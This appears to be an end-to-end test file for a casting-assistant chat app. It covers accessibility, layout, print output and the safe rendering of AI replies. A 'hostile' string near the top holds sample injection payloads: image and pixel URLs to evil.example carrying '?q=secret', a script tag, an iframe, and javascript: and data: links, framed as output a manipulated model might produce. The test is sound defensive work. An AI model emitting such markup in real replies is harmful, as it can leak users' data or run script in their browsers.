/** What holds on every page: the keyboard reaches everything, targets are wide enough, paper gets the thread alone, and hostile text does nothing. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { browserMissing, startBrowser } from '../support/browser.ts';
import { firstLoadBytes } from '../support/first-load.ts';
import { type LocalProduct, startLocalProduct } from '../support/local-product.ts';

const wait = { timeout: 60_000 };
const brief = 'Find actors in Mumbai aged 20 to 45';

/** What a model, or a record that it read, might say to make a page fetch, run or imitate something. */
const hostile = [
  'Look: ![pixel](https://evil.example/pixel.png?q=secret) and ![by reference][pixel] and <img src="https://evil.example/raw.png">',
  '<script>document.title = "taken"</script><iframe src="https://evil.example/frame"></iframe><a href="https://evil.example/raw">raw</a>',
  '[run](javascript:alert(1)) [data](data:text/html,hi) [own](/api/v1/me) [out](https://evil.example/out?q=1) [odd](https://xn--80ak6aa92e.example/)',
  '[pixel]: https://evil.example/reference.png',
].join('\n\n');

describe.skipIf(browserMissing !== undefined)(`everywhere in the app${browserMissing === undefined ? '' : ` (skipped: ${browserMissing})`}`, () => {
  let product: LocalProduct;
  let browser: Browser;
  let page: Page;
  let conversation: string;

  beforeAll(async () => {
    [product, browser] = await Promise.all([
      startLocalProduct({ env: { CASTMATCH_SEED: '100', CASTMATCH_MESSAGES_PER_MINUTE: '600', SCRIPTED_MODEL_DELTA_MS: '1' } }),
      startBrowser(),
    ]);
    const answer = await fetch(`${product.url}/api/v1/ai/chat`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ message: brief }),
    });
    conversation = `/c/${((await answer.json()) as { conversationId: string }).conversationId}`;
  });
  afterAll(async () => {
    await browser?.close();
    await product?.stop();
  });
  afterEach(async () => {
    await page?.context().close();
  });
  const open = async (path: string, ready: string, viewport = { width: 1360, height: 900 }): Promise<void> => {
    page = await (await browser.newContext({ viewport, hasTouch: viewport.width < 500 })).newPage();
    await page.goto(`${product.url}${path}`);
    await page.locator(ready).first().waitFor(wait);
  };
  const focused = (): Promise<string> => page.evaluate("document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent ?? ''");
  /** Goes on until it stands on what has that name; says what it met when it never does. */
  const press = async (key: string, name: string | RegExp, most = 40): Promise<void> => {
    const met: string[] = [];
    for (let times = 0; times < most; times += 1) {
      await page.keyboard.press(key);
      met.push(await focused());
      if (typeof name === 'string' ? met.at(-1) === name : name.test(met.at(-1) ?? '')) return;
    }
    throw new Error(`${key} never came to ${name}, but to ${met.join(' | ')}`);
  };

  describe('by keyboard alone', () => {
    it('a brief is written and answered, and who listens hears turns as headings', async () => {
      await open('/', '.empty');
      await press('Shift+Tab', 'Skip to the message box');
      await page.keyboard.press('Enter');
      await page.keyboard.type(brief);
      await page.keyboard.press('Enter');
      await page.locator('.card').first().waitFor(wait);
      await page.getByRole('button', { name: 'Stop the answer' }).waitFor({ state: 'detached', ...wait });

      expect(await focused()).toBe('Message');
      expect(await page.getByRole('region', { name: 'Messages' }).ariaSnapshot()).toMatch(
        /heading "You" \[level=2\][\s\S]*Find actors in Mumbai aged 20 to 45[\s\S]*heading "CastMatch" \[level=2\][\s\S]*heading .* \[level=3\]/u,
      );
      await expect.poll(() => page.locator('[role="status"][aria-live="polite"]').textContent(), wait).toBe('Answer ready');
    });

    it('a conversation is renamed from its menu, and the focus stays in the list', async () => {
      await open(conversation, '.card');
      await page.locator('.row-open').first().focus();
      await press('Tab', /^What to do with/u, 3);
      await page.keyboard.press('Enter');
      await expect.poll(focused, wait).toBe('Rename');
      expect(await page.getByRole('menu').ariaSnapshot()).toMatch(/menuitem "Rename"[\s\S]*menuitem "Pin"[\s\S]*menuitem "Archive"[\s\S]*menuitem "Delete"/u);
      await press('ArrowDown', 'Delete', 6);
      await press('ArrowDown', 'Rename', 1);
      await page.keyboard.press('Enter');
      await expect.poll(focused, wait).toBe('Title of the conversation');
      await page.keyboard.type('The lead, first call');
      await page.keyboard.press('Enter');
      await page.getByRole('navigation', { name: 'Conversations' }).getByText('The lead, first call').waitFor(wait);
      expect(await page.getByRole('navigation', { name: 'Conversations' }).ariaSnapshot()).toMatch(/button "The lead, first call/u);
    });

    it('the language and the theme are changed, and a dialog gives the focus back', async () => {
      await open('/', '.empty');
      await press('Tab', 'हिन्दी में देखें');
      await page.keyboard.press('Enter');
      await page.getByRole('heading', { name: 'किसकी कास्टिंग है?' }).waitFor(wait);
      expect(await page.locator('main').ariaSnapshot()).toMatch(/heading "किसकी कास्टिंग है\?" \[level=2\][\s\S]*textbox "संदेश"/u);
      await page.getByRole('textbox', { name: 'संदेश' }).focus();
      await page.keyboard.press('Control+k');
      await page.getByRole('combobox').waitFor(wait);
      await page.keyboard.press('Escape');
      await expect.poll(focused, wait).toBe('संदेश');
    });
  });

  it.each([
    ['the first page', (): string => '/', '.empty'],
    ['a thread', (): string => conversation, '.card'],
    ['the design system', (): string => '/design', '.page-title'],
    ['monitoring', (): string => '/admin/monitoring', '.monitoring-overall'],
    ['kept searches', (): string => '/searches', '.nothing'],
  ] as const)('on a phone every target of %s is 44 pixels high, and wide enough', async (_name, path, ready) => {
    await open(path(), ready, { width: 390, height: 844 });
    // Links within a sentence may be as high as their line, and a card's name is pressed by its whole head.
    const small: unknown = await page.evaluate(`[...document.querySelectorAll('button, a[href], input, textarea, summary, [role="tab"]')]
      .filter((element) => element.checkVisibility() && !element.closest('[inert], .visually-hidden, .skip-link, [role="separator"], .person-link, .card-open'))
      .map((element) => [element.className || element.tagName, element.getBoundingClientRect()])
      .filter(([name, { width, height }]) => width > 1 && (height < 43.5 || width < 43.5))
      .map(([name, { width, height }]) => name + ' ' + Math.round(width) + 'x' + Math.round(height))`);
    expect(small).toEqual([]);
  });

  it('what must be there before the app runs is at most 150 KB of JavaScript', () => {
    expect(firstLoadBytes()).toBeGreaterThan(50_000);
    expect(firstLoadBytes()).toBeLessThanOrEqual(150_000);
  });

  describe('a keyboard on a phone takes its room from the thread, never from what is written in', () => {
    const phone = { width: 390, height: 844 };
    const visible = 430;
    /** Where the box ends, and where the last words of the thread do. */
    const ends = async (): Promise<{ box: number; thread: number }> => {
      const bottom = async (selector: string): Promise<number> => {
        const box = await page.locator(selector).last().boundingBox();
        return (box?.y ?? Number.NaN) + (box?.height ?? Number.NaN);
      };
      return { box: await bottom('#composer'), thread: await bottom('section.thread') };
    };
    const expectAbove = (height: number): Promise<void> =>
      expect
        .poll(async () => {
          const { box, thread } = await ends();
          return box <= height && thread <= box && box > height - 120;
        }, wait)
        .toBe(true);

    it('where the browser makes the page smaller', async () => {
      await open(conversation, '.card', phone);
      await page.locator('#composer').fill('and who can ride');
      await page.setViewportSize({ ...phone, height: visible });
      await expectAbove(visible);
      expect(await page.locator('meta[name="viewport"]').getAttribute('content')).toContain('interactive-widget=resizes-content');
    });

    it('and where it lays the keyboard over the page', async () => {
      page = await (await browser.newContext({ viewport: phone, hasTouch: true })).newPage();
      await page.addInitScript(`{
        const seen = Object.assign(new EventTarget(), { height: ${phone.height}, scale: 1 });
        Object.defineProperty(window, 'visualViewport', { value: seen });
        globalThis.coverTo = (height, scale = 1) => { Object.assign(seen, { height, scale }); seen.dispatchEvent(new Event('resize')); };
      }`);
      await page.goto(`${product.url}${conversation}`);
      await page.locator('.card').first().waitFor(wait);
      await page.locator('#composer').fill('and who can ride');
      await expectAbove(phone.height);
      await page.evaluate(`coverTo(${visible})`);
      await expectAbove(visible);
      await page.evaluate(`coverTo(${visible}, 2)`);
      await expectAbove(phone.height);
      await page.evaluate(`coverTo(${phone.height})`);
      await expectAbove(phone.height);
    });
  });

  it('on paper stands the thread alone, all of it', async () => {
    await open(conversation, '.card');
    await page.emulateMedia({ media: 'print' });

    expect(await page.locator('.sidebar').isVisible()).toBe(false);
    expect(await page.locator('.composer').isVisible()).toBe(false);
    expect(await page.locator('.reply-actions').first().isVisible()).toBe(false);
    expect(await page.locator('.card').last().isVisible()).toBe(true);
    expect(await page.evaluate("getComputedStyle(document.querySelector('.thread')).overflowY")).toBe('visible');
    expect((await page.pdf()).length).toBeGreaterThan(10_000);
  });

  it('hostile text loads nothing, runs nothing, and leads nowhere unannounced', async () => {
    page = await (await browser.newContext({ viewport: { width: 1360, height: 900 } })).newPage();
    const foreign: string[] = [];
    page.on('request', (request) => !request.url().startsWith(product.url) && foreign.push(request.url()));
    await page.route('**/messages?*', async (route) => {
      const answer = await route.fetch();
      const body = (await answer.json()) as { items: { role: string; parts: object[] }[] };
      for (const item of body.items) if (item.role === 'assistant') item.parts = [{ type: 'text', text: hostile }];
      await route.fulfill({ response: answer, json: body });
    });
    const answer = await page.goto(`${product.url}${conversation}`);
    const reply = page.locator('.turn-reply').last();
    await reply.getByRole('link', { name: 'out' }).waitFor(wait);

    expect(await reply.locator('img, iframe, script').count()).toBe(0);
    expect(await reply.getByRole('link').evaluateAll((links) => links.map((link) => String((link as unknown as { protocol: string }).protocol)))).not.toContain(
      'javascript:',
    );
    for (const name of ['run', 'data', 'own', 'raw']) expect(await reply.getByRole('link', { name, exact: true }).count()).toBe(0);
    expect(foreign).toEqual([]);

    await reply.getByRole('link', { name: 'out' }).click();
    await page.getByRole('dialog', { name: 'You are leaving CastMatch' }).waitFor(wait);
    expect(await page.locator('.leave-host').textContent()).toBe('evil.example');
    await page.getByRole('button', { name: 'Stay here' }).click();
    await reply.getByRole('link', { name: 'odd' }).click();
    await page.getByRole('alert').filter({ hasText: 'This address mixes scripts' }).waitFor(wait);
    expect(new URL(page.url()).pathname).toBe(conversation);
    expect(foreign).toEqual([]);

    // Should a mistake of ours ever write markup: the page's policy refuses it.
    const policy = (await answer?.headerValue('content-security-policy')) ?? '';
    for (const part of ["default-src 'none'", "script-src 'self'", "base-uri 'none'", "frame-ancestors 'none'", "require-trusted-types-for 'script'"])
      expect(policy.split('; ')).toContain(part);
    expect(await page.evaluate("(() => { try { document.body.innerHTML = '<b>x</b>'; return 'written'; } catch (error) { return error.name; } })()")).toBe(
      'TypeError',
    );
  });
});
